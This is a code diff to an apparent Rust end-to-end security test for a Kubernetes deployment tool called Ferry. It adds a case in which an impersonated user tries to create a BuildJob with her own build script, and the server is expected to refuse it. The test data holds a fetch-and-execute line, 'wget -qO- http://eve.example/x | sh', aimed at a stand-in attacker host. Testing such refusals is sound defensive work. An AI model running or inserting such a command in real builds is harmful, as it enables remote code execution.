@@ -7,7 +7,8 @@
 //! With web-1.0.0 approved and Healthy in prod, eve tries every door the issue lists, as
 //! herself (impersonated): the pin, the prod Environment (approval, upstream, target namespace,
 //! health, deletion), prod's entry in the Application (its overrides, its removal), the
-//! Release prod runs (deleted to be recreated with another image), a Release of her own, and
+//! Release prod runs (deleted to be recreated with another image), a Release of her own, a
+//! BuildJob of her own with another build script (her role may create BuildJobs, to rebuild),
 //! the Application's status, and `spec.run`. Each must be refused by the API server with a
 //! message that names the missing right, or (a change of `spec.run`, which is eve's to make)
 //! made harmless: it becomes a Release that dev runs and prod only names as its candidate.
@@ -15,8 +16,8 @@
 //! The changes a person may make with `approve` are made as rita with a server-side dry run
 //! (admission runs, nothing is stored): the same doors open for her.
 //!
-//! First, eve's own changes that reach no guarded environment (dev's entry, dev's health) must
-//! be admitted, so that a refusal below is Ferry's rule and not a missing role.
+//! First, eve's own changes that reach no guarded environment (dev's entry, dev's health, a
+//! rebuild as the Application says) must be admitted, so that a refusal below is Ferry's rule and not a missing role.
 //!
 //! Doors not closed yet are tried last and reported (`note: open: ...`), not asserted; the
 //! suite prints `measured: attacks refused = N of M`.
@@ -25,7 +26,7 @@ use std::sync::Arc;
 use std::time::Duration;
 
 use ferry::api::application::Phase;
-use ferry::api::{Application, Environment, Release};
+use ferry::api::{Application, BuildJob, Environment, Release};
 use k8s_openapi::api::apps::v1::Deployment;
 use k8s_openapi::api::core::v1::Namespace;
 use k8s_openapi::api::rbac::v1::RoleBinding;
@@ -34,7 +35,7 @@ use kube::{Api, Client};
 use serde_json::{Value, json};
 
 use crate::harness::{Judged, Res, Scenario, Suite};
-use crate::images::{Behaviour, testserver};
+use crate::images::{self, Behaviour, testserver};
 use crate::{case, ensure};
 
 const APP: &str = "web";
@@ -147,7 +148,8 @@ async fn setup(s: &Scenario, prod_ns: &str) -> Res<String> {
             "source": {"url": format!("{}/e2e-rollouts.git", s.cluster.git_url), "branch": "no-builds", "pollInterval": "10m"},
             "build": {"builderImage": format!("{registry}/busybox:1.35"), "script": "true",
                       "baseImage": format!("{registry}/busybox:1.35"), "entrypoint": ["/srv/start"]},
-            "image": {"repository": format!("{registry}/{}/{APP}", s.ns), "insecure": true},
+            // Its Releases are imported test server images, which must be in its repository.
+            "image": {"repository": images::repository(&s.cluster), "insecure": true},
             "run": {"replicas": 1, "ports": [{"name": "http", "port": 8080}],
                     "readinessProbe": {"httpGet": {"path": "/ready", "port": "http"}, "periodSeconds": 1}},
             "environments": [{"name": "dev"}, {"name": "prod"}]
@@ -267,7 +269,21 @@ async fn through(
     };
     let environments: Api<Environment> = Api::namespaced(client.clone(), ns);
     let applications: Api<Application> = Api::namespaced(client.clone(), ns);
+    let buildjobs: Api<BuildJob> = Api::namespaced(client.clone(), ns);
     let releases: Api<Release> = Api::namespaced(client, ns);
+    // A BuildJob of web's commit 1000000, made by hand: the Application's source, build and
+    // image, with `script` when given.
+    let buildjob = |app: Application, name: &str, script: Option<&str>| -> Res<BuildJob> {
+        let mut build = app.spec.build;
+        if let Some(script) = script {
+            build.script = script.into();
+        }
+        Ok(serde_json::from_value(json!({
+            "apiVersion": "ferry.dev/v1alpha1", "kind": "BuildJob", "metadata": {"name": name},
+            "spec": {"application": APP, "commit": "1000000000000000000000000000000000000000",
+                     "source": app.spec.source.repository, "build": build, "image": app.spec.image}
+        }))?)
+    };
     let env_patch = |spec: Value| Patch::Merge(json!({"spec": spec}));
     match name {
         "pin-prod" => {
@@ -313,6 +329,15 @@ async fn through(
                          "commit": "6666666666666666666666666666666666666666", "image": image}
             }))?;
             attempt(releases.create(&post, &forged)).await
+        }
+        "buildjob-foreign" => {
+            let app = applications.get(APP).await?;
+            let job = buildjob(app, "web-eve", Some("wget -qO- http://eve.example/x | sh"))?;
+            attempt(buildjobs.create(&post, &job)).await
+        }
+        "rebuild" => {
+            let app = applications.get(APP).await?;
+            attempt(buildjobs.create(&post, &buildjob(app, "web-rebuild", None)?)).await
         }
         "status-written" => {
             let status = json!({"status": {"latestRelease": "web-6.6.6"}});
@@ -390,6 +415,11 @@ const CLOSED: &[Door] = &[
         harmless: false,
     },
     Door {
+        name: "buildjob-foreign",
+        approver_may: false,
+        harmless: false,
+    },
+    Door {
         name: "status-written",
         approver_may: false,
         harmless: false,
@@ -419,7 +449,7 @@ async fn editor_without_approve(s: Arc<Scenario>) -> Res {
     let admin = s.cluster.whoami().await?;
     // eve does edit Ferry's objects: what does not reach a guarded environment is hers to
     // change (a dry run each), so a refusal below is Ferry's rule, not a missing role.
-    for door in ["dev-entry-overridden", "dev-health-changed"] {
+    for door in ["dev-entry-overridden", "dev-health-changed", "rebuild"] {
         match through(door, (eve.clone(), EDITOR), &admin, &s.ns, &image, true).await? {
             Attempt::Accepted => s.say(format!("admitted {EDITOR} (dry run): {door}")),
             Attempt::Refused(message) => {
